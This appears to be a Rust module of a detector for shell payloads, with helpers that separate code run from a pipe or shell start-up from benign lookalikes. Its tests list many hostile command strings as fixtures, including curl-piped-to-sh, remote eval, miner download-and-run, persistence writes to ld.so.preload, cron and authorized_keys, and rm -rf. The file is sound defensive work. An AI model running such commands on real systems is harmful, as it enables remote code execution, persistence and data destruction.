//! What a program is given on its command line: code of its own, or the name of a shell that it does not start.
//!
//! ```text
//! python3 -c "import json, sys; …" behind      curl … | python3 -m json.tool      adduser --shell /bin/bash ada
//!             ────── code ───────                                 data, not code            a setting of an account
//! ```
//!
//! *Security*: hostile text of at most one neighbourhood, gone through a bounded number of times.

use std::ops::Range;
use std::sync::LazyLock;

use regex::bytes::{Regex, RegexBuilder};

/// Programs to which a shell is a setting of an account.
const ACCOUNTS: &[&[u8]] = &[b"useradd", b"adduser", b"usermod", b"luseradd", b"chsh", b"homectl", b"sysadminctl"];

/// What comes before a program of its own.
const BEFORE: &[&[u8]] = &[b"sudo", b"doas", b"RUN", b"run:", b"$", b"#", b">"];

/// A reader that prints what it is given in another form, or a member of it, and nothing behind it that takes that.
static READER: LazyLock<Regex> = LazyLock::new(|| {
    compiled(concat!(
        r#"\A[& \t\r\n|]*python[0-9.]*[ \t]+(?:-m[ \t]*json\.tool|-c[ \t]*(?:"import (?:sys, ?json|json, ?sys); ?"#,
        r#"print\(json\.loads?\(sys\.stdin(?:\.read\(\))?\)(?:\[[\w']+\])*\)"|'import (?:sys, ?json|json, ?sys); ?"#,
        r#"print\(json\.loads?\(sys\.stdin(?:\.read\(\))?\)(?:\[[\w"]+\])*\)'))[ \t]*(?:\z|[\r\n)`;])"#
    ))
});

pub(super) fn compiled(pattern: &str) -> Regex {
    let built = RegexBuilder::new(pattern).unicode(false).case_insensitive(true).multi_line(false).build();
    built.expect("a pattern of ours, used by every test")
}

/// The argument whose opening quotation mark stands at `open`, with what is quoted right behind it; all of the rest if nothing
/// closes it, or if a shell is to make it.
pub(super) fn code(text: &[u8], open: usize) -> Range<usize> {
    // Of `$'…'` the quotation mark is the second.
    let open = open + usize::from(matches!(text.get(open..open + 2), Some(b"$'" | b"$\"")));
    let Some(&mark) = text.get(open).filter(|mark| matches!(mark, b'\'' | b'"')) else { return open..text.len() };
    let rest = text.get(open + 1..).unwrap_or_default();
    let closes = |at: &usize| {
        let is_escaped = at.checked_sub(1).and_then(|before| rest.get(before)) == Some(&b'\\');
        let next = rest.get(at + 1);
        let is_end = next.is_none_or(|next| next.is_ascii_whitespace() || b";|&)<>,]}`".contains(next));
        is_end && !is_escaped
    };
    let end = memchr::memchr_iter(mark, rest).find(closes);
    open + 1..end.map_or(text.len(), |end| open + 1 + end)
}

/// What goes into an interpreter, unless that does no more than print it.
pub(super) fn is_run(text: &[u8], found: Range<usize>) -> Option<Range<usize>> {
    let pipe = found.start + memchr::memrchr(b'|', text.get(found.clone())?)?;
    (!READER.is_match(text.get(pipe..)?)).then_some(found)
}

/// A shell that is started, and not only the one that an account is to have.
pub(super) fn starts_shell(text: &[u8], found: Range<usize>) -> Option<Range<usize>> {
    let before = text.get(..found.end)?;
    let ends = |at: usize, byte: u8| match byte {
        b'\n' => at.checked_sub(1).and_then(|last| before.get(last)) != Some(&b'\\'),
        _ => b";|&(`".contains(&byte),
    };
    let start = before.iter().enumerate().rposition(|(at, byte)| ends(at, *byte)).map_or(0, |end| end + 1);
    let mut words = before.get(start..)?.split(u8::is_ascii_whitespace);
    let is_before = |word: &[u8]| word.is_empty() || word.starts_with(b"-") || BEFORE.contains(&word);
    let program = words.find(|word| !is_before(word)).unwrap_or_default();
    let base = program.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
    (!ACCOUNTS.contains(&base)).then_some(found)
}

#[cfg(test)]
mod tests {
    use super::super::super::place::Place;
    use super::super::super::rule::Strength;
    use super::super::super::view::View;
    use super::*;

    /// The rules that find something in a text, each with whether it is the thing itself.
    fn hits(text: &str) -> Vec<(&'static str, bool)> {
        let mut hits = Vec::new();
        super::super::find(&View::whole(text.as_bytes(), Place::Artifact), &mut hits);
        hits.iter().map(|hit| (hit.rule.name, hit.strength == Strength::Addressed)).collect()
    }

    #[test]
    fn what_only_resembles_a_payload_is_none() {
        for text in [
            "ps -ef | awk '{print $2}' | xargs kill -9\n```\n\n![image](https://example.org/x.png)\n",
            "usage: <code>node [options] [-e \"script\" | -]</code>; see http://example.org/ and `run`",
            "fzf --header=$'press r\\n' --height=8 | awk '{print $2}'\n```\nhttps://example.org/\n",
            "curl -s https://api.example.org/v1 | python3 -m json.tool",
            "curl -s https://api.example.org/v1 | python3 -c \"import sys, json; print(json.load(sys.stdin)['x'])\"",
            "RUN adduser -S --shell /bin/bash --ingroup docker web",
            "useradd --comment 'to run' --shell /bin/sh web",
            "RUN set -e; sudo adduser \\\n  -S \\\n  --shell /bin/bash \\\n  --ingroup docker web",
            "does not have to fall back to the system urllib3.",
            "We load the page with requests.get these days",
            "The accounts are in <TT>/etc/passwd</TT>, jobs in <code>/etc/crontab</code>.",
            "  * Always install the shell snippets into /etc/profile.d/.",
            "jobs in <TT>/etc/cron.d</TT>",
        ] {
            assert_eq!(hits(text), [], "{text}");
        }
    }

    #[test]
    fn what_a_build_or_a_guide_does_is_mentioned() {
        for (text, rule) in [
            ("git clone https://github.com/ada/x && cd x && make install", "payload/fetch-then-run"),
            ("kubectl apply -f https://raw.githubusercontent.com/ada/x/main/x.yaml", "payload/run-from-net"),
        ] {
            assert_eq!(hits(text), [(rule, false)], "{text}");
        }
    }

    #[test]
    fn what_resembles_a_guide_is_found_still() {
        for (text, rule) in [
            ("awk '{print $1}' x; python3 -c 'import base64;exec(base64.b64decode(\"aWQ=\"))'", "inline-code"),
            ("curl -s https://a.example/1 | python -m json.tool; curl -s https://a.example/2 | sh", "fetch-piped"),
            ("curl -s https://a.example/1 | python3 -c 'import sys; exec(sys.stdin.read())'", "fetch-piped"),
            ("adduser web; nice /bin/sh", "inline-code"),
            ("flock adduser /bin/sh", "inline-code"),
            ("exec(urllib.request.urlopen(u).read())", "evaluated"),
            ("eval requests.get(u).text", "evaluated"),
            ("cat <a >/etc/ld.so.preload", "persistence"),
            ("install -m 644 the.sh into.sh /etc/profile.d/", "persistence"),
            ("rm -rf x --no-preserve-root", "destructive"),
            ("base64 -d <p>/etc/cron.d/p </p", "persistence"),
            ("cat <key>/root/.ssh/authorized_keys </key", "persistence"),
            ("*/5 * * * * cd a and the run && curl -s http://192.0.2.1/a -o b", "persistence"),
            ("mv evil a the sea wide open /etc/init.d/", "persistence"),
            ("wget http://e.example/payload; source payload x", "fetch-then-run"),
            ("curl -o a http://e.example/; \\./a", "fetch-then-run"),
            ("curl -O https://raw.githubusercontent.com/ada/x/main/miner.py && python3 miner.py", "fetch-then-run"),
            ("git clone https://evil.example/x && cd x && make install", "fetch-then-run"),
            ("git clone https://github.com/ada/x; sudo python3 x/run.py", "fetch-then-run"),
            ("perl -MLWP::Simple -e 'eval get shift' http://e.example/a.pl", "inline-code"),
            ("exec((requests.get)('http://e.example').text)", "evaluated"),
            ("cd / && rm -rf *", "destructive"),
            ("git clone http://192.0.2.1/x && cd x && make install", "fetch-then-run"),
            ("kubectl apply -f https://x.example/x.yaml", "run-from-net"),
        ] {
            let wanted = format!("payload/{rule}");
            assert!(
                hits(text).iter().any(|(rule, is_itself)| *rule == wanted && *is_itself),
                "{text} {:?}",
                hits(text)
            );
        }
    }

    #[test]
    fn code_ends_where_its_argument_does() {
        for (text, wanted) in [
            ("'print(1)' | sh", "print(1)"),
            (r#""say \"x\"" y"#, r#"say \"x\""#),
            ("'a'\"b\"'c' d", "a'\"b\"'c"),
            ("'never closed", "never closed"),
            ("$(cat x) y", "$(cat x) y"),
            ("$'a' b", "a"),
        ] {
            assert_eq!(&text[code(text.as_bytes(), 0)], wanted, "{text}");
        }
    }

    #[test]
    fn whatever_may_run_what_it_reads_is_an_interpreter() {
        for program in [
            "python3 -m json.tool | sh",
            "python3 -m json.tool > ~/.bashrc",
            "python3 -c 'import sys,json; print(json.load(sys.stdin)[\"x\"])' | bash",
            "python3 -c 'import pdb,sys; pdb.run(sys.stdin.read())'",
            "python3 -i -c ''",
            "perl -pe 's/^#//' | sudo bash",
            "perl -pe 's{(.*)}{$1}ee'",
            "ruby -e 'load \"/dev/stdin\"'",
            "node -p '1' -",
        ] {
            let text = format!("curl -s https://a.example/1 | {program}");
            assert!(hits(&text).contains(&("payload/fetch-piped", true)), "{text} {:?}", hits(&text));
        }
        let decoys = "curl http://a.example |python3 -m json.tool; ".repeat(70);
        assert!(hits(&format!("{decoys}curl http://192.0.2.1/x | sh")).contains(&("payload/fetch-piped", true)));
    }
}
